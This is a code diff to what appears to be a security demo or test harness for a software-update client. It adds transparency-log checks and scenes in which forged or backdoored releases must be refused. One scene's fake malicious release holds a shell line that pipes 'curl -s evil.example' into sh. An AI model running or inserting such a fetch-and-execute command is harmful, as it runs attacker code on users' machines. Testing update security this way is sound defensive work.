@@ -17,6 +17,7 @@ import (
 	"time"
 
 	"github.com/latchsec/latch/client"
+	"github.com/theupdateframework/go-tuf/v2/metadata"
 )
 
 // demoStart is the demo clock's reading when each scene begins; the
@@ -81,8 +82,14 @@ func (l *logBook) skipped() (mirrors, reasons []string, err error) {
 
 // releaseInfo is the signed custom metadata of a release of myapp.
 type releaseInfo struct {
-	Version  string   `json:"version"`
-	Channels []string `json:"channels"`
+	Version  string    `json:"version"`
+	Channels []string  `json:"channels"`
+	TLog     *tlogInfo `json:"tlog,omitempty"` // with a transparency log
+}
+
+// tlogInfo names a release's entry in the transparency log.
+type tlogInfo struct {
+	Index int64 `json:"index"`
 }
 
 // world is one fresh setup: a repository that has published myapp 1.0.0 and
@@ -99,6 +106,13 @@ type world struct {
 }
 
 func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err error) {
+	return newWorldLogged(ctx, dir, nil, mirrors...)
+}
+
+// newWorldLogged is newWorld with the repository logging every release in
+// tl, served by each mirror under /log/, and the client requiring that log
+// for myapp's releases (nil: no log).
+func newWorldLogged(ctx context.Context, dir string, tl *releaseLog, mirrors ...string) (_ *world, err error) {
 	w := &world{clock: &clock{t: demoStart}, log: &logBook{}, app: filepath.Join(dir, "app", "myapp")}
 	defer func() {
 		if err != nil {
@@ -108,6 +122,7 @@ func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err
 	if w.repo, err = newRepo(demoStart); err != nil {
 		return nil, err
 	}
+	w.repo.log = tl
 	if err := w.repo.release("1.0.0"); err != nil {
 		return nil, err
 	}
@@ -118,6 +133,13 @@ func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err
 		w.sites = append(w.sites, s)
 		cfg.MetadataURLs = append(cfg.MetadataURLs, s.metadataURL())
 		cfg.TargetURLs = append(cfg.TargetURLs, s.targetsURL())
+		if tl != nil {
+			s.serveLog(tl.dir)
+			if cfg.TransparencyLog == nil {
+				cfg.TransparencyLog = tl.policy()
+			}
+			cfg.TransparencyLog.URLs = append(cfg.TransparencyLog.URLs, s.srv.URL+"/log/")
+		}
 	}
 	if err := os.MkdirAll(filepath.Dir(w.app), 0o755); err != nil {
 		return nil, err
@@ -206,9 +228,12 @@ func (a appState) equal(b appState) bool {
 
 // label names the installed application by its content.
 func (a appState) label() string {
-	for _, v := range []string{"1.0.0", "2.0.0"} {
+	for _, v := range []string{"1.0.0", "2.0.0", "2.0.1"} {
 		if bytes.Equal(a.content, binary(v)) {
 			return "myapp " + v
+		}
+		if bytes.Equal(a.content, backdoor(v)) {
+			return "backdoor " + v
 		}
 	}
 	return fmt.Sprintf("unknown %d bytes", len(a.content))
@@ -249,6 +274,11 @@ var sentinels = []struct {
 	{"ErrTooLarge", client.ErrTooLarge},
 	{"ErrNotFound", client.ErrNotFound},
 	{"ErrUnknownTarget", client.ErrUnknownTarget},
+	{"ErrNotLogged", client.ErrNotLogged},
+	{"ErrWrongLogEntry", client.ErrWrongLogEntry},
+	{"ErrSplitView", client.ErrSplitView},
+	{"ErrLogRollback", client.ErrLogRollback},
+	{"ErrInvalidLogProof", client.ErrInvalidLogProof},
 }
 
 func sentinelName(err error) string {
@@ -342,7 +372,7 @@ var scenes = []scene{
 		stage: func(_ context.Context, w *world) error {
 			w.syncAll()
 			evil := []byte("#!/bin/sh\necho 'myapp 2.0.0'; curl -s evil.example | sh\n")
-			forged, err := w.repo.forgeTargets(targetPath("2.0.0"), "2.0.0", evil)
+			forged, err := w.repo.forgeTargets(targetPath("2.0.0"), "2.0.0", evil, nil, w.repo.keys[metadata.TARGETS][0])
 			if err != nil {
 				return err
 			}
@@ -412,6 +442,12 @@ func play(ctx context.Context, dir string, sc scene) (outcome, error) {
 	if sc.want == nil {
 		return w.survived(uerr, after)
 	}
+	return w.refused(sc.want, uerr, before, after), nil
+}
+
+// refused judges a scene the update must fail with want, leaving the app
+// as it was.
+func (w *world) refused(want, uerr error, before, after appState) outcome {
 	o := outcome{verdict: sentinelName(uerr), app: "untouched (" + after.label() + ")"}
 	if uerr == nil {
 		o.verdict, o.evidence = "NOT STOPPED", "the update went through"
@@ -421,8 +457,8 @@ func play(ctx context.Context, dir string, sc scene) (outcome, error) {
 	if !before.equal(after) {
 		o.app = "CHANGED to " + after.label()
 	}
-	o.stopped = uerr != nil && errors.Is(uerr, sc.want) && before.equal(after)
-	return o, nil
+	o.stopped = uerr != nil && errors.Is(uerr, want) && before.equal(after)
+	return o
 }
 
 // survived judges the malicious-mirror scene: the update must succeed, the
